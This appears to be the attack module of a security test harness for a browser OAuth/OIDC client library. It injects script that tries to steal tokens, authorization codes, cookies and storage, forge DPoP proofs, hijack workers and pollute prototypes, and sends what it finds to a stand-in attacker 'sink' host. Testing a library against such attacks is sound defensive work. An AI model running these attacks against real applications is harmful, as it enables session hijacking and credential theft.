// The attacks that do something: use the client, its files and its provider for themselves. `app` is the application, which
// has the client where script can reach it, as many have: { client, fetch, rival }.

const acts = {
  async "A23 requests through the client"(attack) {
    const response = await app().fetch(`${given.resource}`);
    report(attack, await response.text());
  },

  async "T16 public methods of the client"(attack) {
    const { client } = app();
    const names = new RealSet();
    for (let owner = client; owner && owner !== Object.prototype; owner = getPrototypeOf(owner)) {
      for (const name of ownKeys(owner)) names.add(name);
    }
    for (const name of names) {
      // What ends the session, leaves the page or begins a sign-in belongs to others.
      if (
        /^(constructor|dispose|logout|login|sign|init|preload|remove|revoke|clear|goTo|stop|start|handle|connect|refresh|mfa|process|_sign|exchange|custom)/i.test(
          String(name),
        )
      )
        continue;
      await within(6000, async () => {
        const member = client[name];
        const value = typeof member === "function" ? await apply(member, client, []) : member;
        report(attack, value);
      });
    }
  },

  async "T20 look-alike addresses"(attack) {
    const { host, port } = new URL(given.sink);
    const path = `/steal/${encodeURIComponent(attack)}`;
    const api = new URL(given.api);
    const hostile = [
      `${given.sink}${path}`,
      `//${host}${path}`,
      `http:\\\\${host}${path}`,
      `\thttp://${host}${path}?${given.api}/api/hello`,
      `http://${host}${path}#${given.api}`,
      `http://${api.host}@${host}${path}`,
      `http://${api.hostname}.localhost:${port}${path}`,
      `http://localhost:${port}${path}`,
      `http://localhost.:${port}${path}`,
      `HTTP://LOCALHOST:0${port}${path}`,
      `${given.page}/theft/blank.html?`,
      `${given.api.replace("localhost", "127.0.0.1")}/api/hello`,
    ];
    for (const address of hostile) await within(6000, () => app().fetch(address));
    await within(6000, () => app().fetch(new Request(hostile[0])));
  },

  async "T5 a request that lies about its address"(attack) {
    // The client judges what the request says, and the browser sends it where it goes.
    const address = `${given.sink}/steal/${encodeURIComponent(attack)}`;
    const lie = { configurable: true, get: () => given.resource };
    const owner = RealRequest.prototype;
    const members = ["url", "clone"].map((name) => [name, getOwnPropertyDescriptor(owner, name)]);
    const known = getOwnPropertyDescriptor(globalThis, "Request");
    // On the prototype.
    replace(owner, "url", lie);
    await within(6000, () => app().fetch(new RealRequest(address)));
    // On the request, and on every copy of it.
    replace(owner, "url", members[0][1]);
    const made = new RealRequest(address);
    defineProperty(made, "url", lie);
    defineProperty(made, "clone", { value: () => made });
    await within(6000, () => app().fetch(made));
    // What is made of any address is a request to the attacker, and says that it is not.
    replace(globalThis, "Request", {
      ...known,
      value: new Proxy(RealRequest, {
        construct(real, [, init]) {
          const request = new real(address, init);
          defineProperty(request, "url", lie);
          return request;
        },
      }),
    });
    await within(6000, () => app().fetch(given.resource));
    await within(6000, () => app().fetch(new RealRequest(given.resource)));
    replace(globalThis, "Request", known);
    // An address that is another one when it is asked again.
    for (let first = 1; first <= 3; first++) {
      let times = 0;
      await within(6000, () => app().fetch({ toString: () => (times++ < first ? given.resource : address) }));
    }
    for (const [name, descriptor] of members) replace(owner, name, descriptor);
  },

  async "T21 redirect to the attacker"(attack) {
    for (const status of [301, 302, 303, 307, 308]) {
      const to = encodeURIComponent(`${given.sink}/steal/${encodeURIComponent(attack)}`);
      await within(6000, () => app().fetch(`${given.api}/api/redirect?status=${status}&to=${to}`));
    }
  },

  async "T22 an allowed API that echoes"(attack) {
    for (const path of ["/plain", "/base64", "/url", "/backwards", "/header"]) {
      await within(6000, async () => {
        const response = await app().fetch(given.echo + path);
        report(attack, [...response.headers]);
        report(attack, await response.text());
      });
    }
  },

  async "T53 proofs signed with the page's key"(attack) {
    // RFC 9449 §11.4: a key that cannot be exported can still sign, for whoever can reach it.
    const pairs = await proofKeys();
    if (!pairs.length) return;
    const told = await within(6000, async () => (await app().fetch(`${given.echo}/plain`)).text());
    const opened = (await openedRecords()).map((plain) => new TextDecoder().decode(plain));
    opened.push(...Object.values(localStorage), ...Object.values(sessionStorage));
    for (const [, records] of await databases()) for (const [, value] of records) opened.push(String(value));
    const access = new RealSet([told, ...opened].flatMap((text) => text?.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g) ?? []));
    const refresh = new RealSet(opened.flatMap((text) => /"refresh":"([^"]+)"/.exec(text)?.[1] ?? []));
    for (const pair of pairs) {
      for (const token of access)
        report(attack, stringify({ token, proof: await proofOf(pair, "GET", given.resource, token) }));
      for (const token of refresh) {
        report(attack, stringify({ token, proof: await proofOf(pair, "POST", `${given.oidc.issuer}/token`) }));
      }
    }
  },

  async "T13 import the client's files again"(attack) {
    for (const address of scripts()) {
      await within(10_000, async () => {
        const module = await import(address);
        for (const [name, value] of Object.entries(module)) {
          report(attack, value);
          if (typeof value !== "function" || /^(set|login|logout)/.test(name)) continue;
          for (const args of [[], [{}], [app().options]]) {
            await within(8000, async () => {
              const result = await apply(value, undefined, args);
              report(attack, result);
              report(attack, result?.exports);
            });
          }
        }
      });
    }
  },

  async "T18 silent sign-in in a frame"(attack) {
    if (!given.oidc) return;
    const { url, proof } = await authorizeUrl();
    const frame = document.createElement("iframe");
    frame.hidden = true;
    frame.src = url;
    document.body.append(frame);
    report(attack, await caught(() => frame.contentWindow.location.href, proof));
    frame.remove();
  },

  async "T19 silent sign-in in a popup"(attack) {
    if (!given.oidc) return;
    const { url, proof } = await authorizeUrl();
    const popup = window.open(url);
    report(attack, popup ? await caught(() => popup.location.href, proof) : "no popup");
    popup?.close();
  },

  async "T50 a second client on the page"(attack) {
    for (const value of (await app().rival?.()) ?? []) report(attack, value);
  },
};

/** Attacks on authsafe alone, each in a visit of its own: they move the session. */
const rivals = {
  async "T50 second client in the page, token exposed"(attack) {
    const rival = await second({ isolation: "page", exposeAccessToken: true });
    report(attack, await rival.getAccessToken());
  },

  async "T50 second client in a worker, token exposed"(attack) {
    const rival = await second({ exposeAccessToken: true });
    report(attack, await rival.getAccessToken());
  },

  async "T50 second client that allows the attacker's origin"(attack) {
    const rival = await second({ allowedOrigins: [given.sink] });
    await rival.fetch(`${given.sink}/steal/${encodeURIComponent(attack)}`);
  },

  async "T38 second client with the attacker's token endpoint"(attack) {
    const steal = `${given.sink}/steal/${encodeURIComponent(attack)}`;
    const { oidc, firstParty } = app().options;
    const changed = oidc
      ? {
          oidc: {
            ...oidc,
            metadata: {
              issuer: oidc.issuer,
              authorization_endpoint: `${oidc.issuer}/auth`,
              token_endpoint: steal,
              revocation_endpoint: steal,
              jwks_uri: `${oidc.issuer}/jwks`,
            },
          },
        }
      : {
          firstParty: {
            ...firstParty,
            endpoints: { ...firstParty.endpoints, refresh: steal, logout: steal, user: steal },
          },
        };
    const rival = await second(changed);
    await within(8000, () => rival.refresh());
    await within(8000, () => rival.revoke());
  },

  async "T50 second client with a listening adapter"(attack) {
    // The record of the medium is handed to a client that keeps it in the attacker's own storage.
    const adapter = {
      get: (key) => localStorage.getItem(key) ?? sessionStorage.getItem(key),
      set: (key, text) => report(attack, text),
      remove: () => {},
    };
    const rival = await second({ storage: { kind: "custom", adapter, dangerouslyPlaintext: true } });
    await within(8000, () => rival.refresh());
  },

  async "T15 timers that kill the worker"(attack) {
    // A client that waits for its worker by such a clock gives it up at once. What does it do then?
    const scriptOf = replaceWorker(attack);
    const { fetch: before } = globalThis;
    listenTo(globalThis, "fetch", attack);
    const { setWorkerSource, setWasmSource } = await import(`${given.page}${given.dist}/index.js`);
    setWorkerSource?.(scriptOf(`${given.page}${given.dist}/worker.js`, true));
    setWasmSource?.(
      new RealPromise((resolve) => realTimer(resolve, 50, realFetch(`${given.page}${given.wasm}/authsafe_bg.wasm`))),
    );
    // What waits by it again and again would hold up the page, and the attacker with it.
    let left = 200;
    for (const name of ["setTimeout", "setInterval"]) {
      const { value: real } = getOwnPropertyDescriptor(globalThis, name);
      replace(globalThis, name, {
        configurable: true,
        writable: true,
        value: (work, ...rest) => (left-- > 0 ? (queueMicrotask(work), 0) : apply(real, globalThis, [work, ...rest])),
      });
    }
    for (let at = 0; at < 3; at++) {
      await within(4000, () => app().fetch(given.resource));
      await within(4000, () => app().refresh());
    }
    globalThis.fetch = before;
  },

  async "T17 the worker, spoken to directly"(attack) {
    const worker = new Worker(`${given.page}${given.dist}/worker.js`, { type: "module" });
    await speak(attack, (message) => worker.postMessage(message), worker);
    worker.terminate();
  },

  async "T17 the worker's script, run in the page"(attack) {
    await import(`${given.page}${given.dist}/worker.js?in-the-page`);
    await speak(attack, (message) => globalThis.postMessage(message), globalThis);
  },

  async "T13 core.js, started without the client"(attack) {
    const { start } = await import(`${given.page}${given.dist}/core.js`);
    const address = `${given.page}${given.wasm}/authsafe_bg.wasm`;
    const create = await start({ given: realFetch(address), address });
    const host = { onState: (state) => report(attack, state), onEvent: (...event) => report(attack, event) };
    const { mode, ...options } = app().options;
    const core = create(
      { ...options, mode, isolation: "page", exposeAccessToken: true, restore: STORED },
      host,
      () => {},
      new AbortController().signal,
    );
    await within(10_000, async () => report(attack, await core.init()));
    await within(6000, async () => report(attack, await core.accessToken(0)));
    await within(6000, async () => report(attack, await core.authorize(given.resource, "GET")));
    await within(6000, async () => report(attack, await core.idTokenClaims()));
  },

  async "T54 second client in a frame with pristine functions"(attack) {
    const frame = document.createElement("iframe");
    frame.src = `${given.page}/theft/blank.html`;
    await new Promise((resolve) => {
      frame.onload = resolve;
      document.body.append(frame);
    });
    frame.contentWindow.options = { ...app().options, isolation: "page", exposeAccessToken: true, restore: STORED };
    const work = `import(${stringify(`${given.page}${given.dist}/index.js`)}).then(async ({ createAuthClient }) => {
      const client = createAuthClient(options);
      await client.init();
      return client.getAccessToken();
    })`;
    report(attack, await within(15_000, () => frame.contentWindow.eval(work)));
  },
};

/** Attacks that change how the client works, from before it is there (`pre`) or before it signs in (`post`). */
const traps = {
  "T12 constant randomness"() {
    replace(Crypto.prototype, "getRandomValues", {
      configurable: true,
      writable: true,
      value: (view) => (new Bytes(view.buffer, view.byteOffset, view.byteLength).fill(65), view),
    });
    replace(Crypto.prototype, "randomUUID", {
      configurable: true,
      writable: true,
      value: () => "aaaaaaaa-aaaa-4aaa-aaaa-aaaaaaaaaaaa",
    });
  },

  "T15 Worker constructor, replaced"(attack) {
    replaceWorker(attack);
  },

  "T15 messages to the worker, tampered with"(attack) {
    const { postMessage } = Worker.prototype;
    replace(Worker.prototype, "postMessage", {
      configurable: true,
      writable: true,
      value(message, transfer) {
        if (message?.kind === "open") {
          message = { ...message, options: { ...message.options, exposeAccessToken: true } };
          apply(realAdd, this, [
            "message",
            ({ data }) => {
              report(attack, data);
              if (data.id === ASKED && (data.kind === "result" || data.error?.code === "token_isolated"))
                report(attack, DONE);
            },
          ]);
          const ask = () => apply(postMessage, this, [{ kind: "call", id: ASKED, name: "accessToken", argument: 0 }]);
          for (let at = 1; at <= 12; at++) realTimer(ask, at * 150);
        }
        return apply(postMessage, this, [message, transfer]);
      },
    });
  },

  "T43 polluted prototype"(attack) {
    const wanted = {
      exposeAccessToken: true,
      isolation: "page",
      dangerouslyPlaintext: true,
      allowedOrigins: [given.sink],
      storage: { kind: "localStorage", dangerouslyPlaintext: true },
      logger: "debug",
    };
    for (const [name, value] of Object.entries(wanted)) {
      defineProperty(Object.prototype, name, { value, configurable: true, writable: true, enumerable: false });
    }
    const timer = setInterval(async () => {
      const { client, fetch } = globalThis.app ?? {};
      if (client?.getState?.().status !== "authenticated") return;
      clearInterval(timer);
      report(attack, { ...localStorage });
      await within(6000, async () => report(attack, await client.getAccessToken()));
      await within(6000, () => fetch(`${given.sink}/steal/${encodeURIComponent(attack)}`));
      report(attack, DONE);
    }, 50);
  },

  "T51 service worker"(attack) {
    // It covers the page and the scripts of workers, and is asked for each of their requests.
    const query = new URLSearchParams({ sink: given.sink, attack });
    const ready = async () => {
      const { serviceWorker } = navigator;
      await serviceWorker.register(`/theft/service-worker.js?${query}`, { scope: "/theft/" });
      await serviceWorker.ready;
      while (!serviceWorker.controller) await new RealPromise((resolve) => realTimer(resolve, 20));
    };
    track(within(10_000, ready));
  },

  "T25 the code, before the client reads it"(attack) {
    if (!new URLSearchParams(location.search).has("code")) return;
    report(attack, location.href);
    report(attack, { ...sessionStorage });
    report(attack, { ...localStorage });
    report(attack, document.cookie);
    // The client never runs, so nobody else redeems it.
    window.stop();
    flush();
    track(databases().then((all) => report(attack, all)));
    // What is sealed can be opened, and what is bound be proven, by whoever may use the keys.
    track(reads["T4 IndexedDB key oracle"](attack));
    track(proveCode(attack));
  },
};

const app = () => globalThis.app;

/** Every worker that the page starts from now on is the attacker's, which hooks its own realm first, and then is the client's. */
function replaceWorker(attack) {
  const hook = `
    const real = self.fetch.bind(self);
    const tell = (value) => real(${stringify(`${given.sink}/batch`)}, { method: "POST", mode: "no-cors",
      body: JSON.stringify([[${stringify(attack)}, value]]) });
    self.fetch = async (input, init) => {
      const request = new Request(input, init);
      tell(request.url + JSON.stringify([...request.headers]) + (await request.clone().text()));
      const response = await real(request);
      response.clone().text().then(tell);
      return response;
    };`;
  const address = (text) => URL.createObjectURL(new RealBlob([text], { type: "text/javascript" }));
  const hooked = address(hook);
  const scriptOf = (script, isModule) =>
    address(
      isModule
        ? `import ${stringify(hooked)}; import ${stringify(script)};`
        : `importScripts(${stringify(hooked)}, ${stringify(script)});`,
    );
  const found = getOwnPropertyDescriptor(globalThis, "Worker");
  replace(globalThis, "Worker", {
    ...found,
    value: new Proxy(found.value, {
      construct(real, [url, options], target) {
        const script = scriptOf(new URL(url, document.baseURI).href, options?.type === "module");
        const worker = Reflect.construct(real, [script, options], target);
        apply(realAdd, worker, ["message", (event) => report(attack, event)]);
        return worker;
      },
    }),
  });
  return scriptOf;
}

/** A trap that says this has caught all that it will. */
const DONE = "done: nothing more will come";
const ASKED = 987_654;

/** Otherwise a client that finds no session may leave the page for the provider, and the attacker's script with it. */
const STORED = "refresh-token";

async function second(changes) {
  const { createAuthClient } = await import(`${given.page}${given.dist}/index.js`);
  const rival = createAuthClient({ ...app().options, restore: STORED, ...changes });
  await within(15_000, () => rival.init());
  return rival;
}

/** The wire protocol of `worker.js`, spoken by the attacker, who does for it what the page would do. */
async function speak(attack, post, source) {
  const { issuer: _, storage, ...rest } = app().options;
  // The page keeps the functions of an adapter.
  const options = { ...rest, storage: storage?.adapter ? { ...storage, adapter: undefined } : storage };
  const opened = new Promise((resolve) => {
    apply(realAdd, source, [
      "message",
      ({ data }) => {
        report(attack, data);
        if (data?.kind === "opened" || data?.kind === "closed") resolve();
        if (data?.kind !== "ask") return;
        const [place, method, first, text] = data.service;
        let value;
        if (place === "cookies") value = method === "set" ? (document.cookie = first) : document.cookie;
        else if (place === "adapter") value = storage.adapter[method](first, text);
        else if (place.endsWith("Storage")) value = globalThis[place][`${method}Item`](first, text);
        post({ kind: "answer", id: data.id, value: typeof value === "string" ? value : undefined });
      },
    ]);
  });
  const build = (await (await realFetch(`${given.page}${given.dist}/worker.js`)).text()).match(
    /sha256-[A-Za-z0-9+/=]+/,
  )?.[0];
  const wasm = `${given.page}${given.wasm}/authsafe_bg.wasm`;
  post({ kind: "open", build, wasm, options: { ...options, exposeAccessToken: true }, href: location.href });
  await within(10_000, () => opened);
  for (const [id, name] of ["init", "accessToken", "idTokenClaims", "constructor", "authorize", "export"].entries()) {
    post({ kind: "call", id: 1000 + id, name, argument: 0 });
    await new Promise((resolve) => realTimer(resolve, id ? 60 : 500));
  }
  post({ kind: "fetch", id: 2000, request: { url: `${given.sink}/steal/${encodeURIComponent(attack)}`, headers: [] } });
  await new Promise((resolve) => realTimer(resolve, 200));
}

/** The scripts that this page has loaded from its own origin, and those that lie beside them. */
function scripts() {
  const all = performance.getEntriesByType("resource").map(({ name }) => name);
  const own = all.filter(
    (name) => name.startsWith(`${given.page}/`) && /\.m?js(\?|$)/.test(name) && !/\/app\.js|\/sdks\//.test(name),
  );
  const beside = given.dist ? ["index.js", "core.js"].map((name) => `${given.page}${given.dist}/${name}`) : [];
  return [...new RealSet([...own, ...beside])].filter((name) => !name.includes("worker"));
}

async function proveCode(attack) {
  const code = new URLSearchParams(location.search).get("code");
  for (const pair of await proofKeys()) {
    report(attack, stringify({ token: code, proof: await proofOf(pair, "POST", `${given.oidc.issuer}/token`) }));
  }
}

async function proofKeys() {
  const pairs = [];
  const collect = (value) => {
    if (value?.privateKey instanceof RealKey && value.point) pairs.push(value);
    else if (value && typeof value === "object") for (const one of Object.values(value)) collect(one);
  };
  for (const [, records] of await databases()) for (const [, value] of records) collect(value);
  return pairs;
}

/** RFC 9449 §4.2. */
async function proofOf({ privateKey, point }, htm, htu, token) {
  const encode = (value) => url64(new TextEncoder().encode(stringify(value)));
  const bytes = new Bytes(point);
  const jwk = { kty: "EC", crv: "P-256", x: url64(bytes.slice(1, 33)), y: url64(bytes.slice(33)) };
  const ath = token && url64(new Bytes(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(token))));
  const claims = { jti: crypto.randomUUID(), htm, htu, iat: Math.floor(Date.now() / 1000), ...(ath && { ath }) };
  const input = `${encode({ typ: "dpop+jwt", alg: "ES256", jwk })}.${encode(claims)}`;
  const algorithm = { name: "ECDSA", hash: "SHA-256" };
  const signature = await crypto.subtle.sign(algorithm, privateKey, new TextEncoder().encode(input));
  return `${input}.${url64(new Bytes(signature))}`;
}

const url64 = (bytes) => base64(bytes).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");

async function authorizeUrl() {
  const verifier = "attackers-own-verifier-0123456789-0123456789-abcd";
  const digest = new Bytes(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
  const challenge = url64(digest);
  const { issuer, clientId, scope, redirectUri } = given.oidc;
  const url = new URL(`${issuer}/auth`);
  url.search = new URLSearchParams({
    client_id: clientId,
    scope,
    redirect_uri: redirectUri,
    response_type: "code",
    prompt: "none",
    code_challenge: challenge,
    code_challenge_method: "S256",
    state: "x",
    nonce: "y",
  });
  return { url: url.href, proof: { verifier, redirectUri } };
}

/** Waits until the address can be read, which is when it is of this origin again. */
async function caught(address, proof) {
  for (let tries = 0; tries < 150; tries++) {
    await new Promise((resolve) => realTimer(resolve, 50));
    try {
      const href = address();
      if (href.includes("code=")) return stringify({ href, ...proof });
      if (href.includes("error=")) return href;
    } catch {
      // Still at the provider.
    }
  }
  return "nothing came back";
}

/** What fails, fails; what hangs is given up. */
async function within(milliseconds, work) {
  const limit = new RealPromise((resolve) => realTimer(resolve, milliseconds));
  try {
    return await RealPromise.race([work(), limit]);
  } catch (error) {
    return void error;
  }
}
